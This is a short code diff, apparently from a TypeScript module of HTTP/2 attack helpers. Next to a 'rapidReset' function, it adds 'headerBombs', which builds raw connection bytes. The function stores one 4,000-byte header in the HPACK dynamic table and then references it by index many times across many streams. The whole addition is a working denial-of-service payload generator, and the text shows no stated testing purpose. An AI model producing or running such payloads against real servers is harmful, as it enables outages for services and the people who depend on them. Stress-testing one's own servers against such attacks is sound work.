@@ -52,3 +52,17 @@ export function rapidReset(
   }
   return Buffer.concat(frames);
 }
+
+const BOMB_VALUE_BYTES = 4_000;
+
+/** A connection's bytes: requests whose headers name one large header again and again, a byte each time. */
+export function headerBombs(path: string, { streams, times }: { streams: number; times: number }): Buffer {
+  const length = Buffer.from([0x7f, ((BOMB_VALUE_BYTES - 0x7f) & 0x7f) | 0x80, (BOMB_VALUE_BYTES - 0x7f) >> 7]);
+  const large = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), length, Buffer.alloc(BOMB_VALUE_BYTES, 0x61)]);
+  const frames = [Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0))];
+  for (let index = 0; index < streams; index += 1) {
+    const bomb = Buffer.concat([firstHeaders(path), large, Buffer.alloc(times, 0xbe)]);
+    frames.push(frame(HEADERS, END_HEADERS, index * 2 + 1, bomb));
+  }
+  return Buffer.concat(frames);
+}
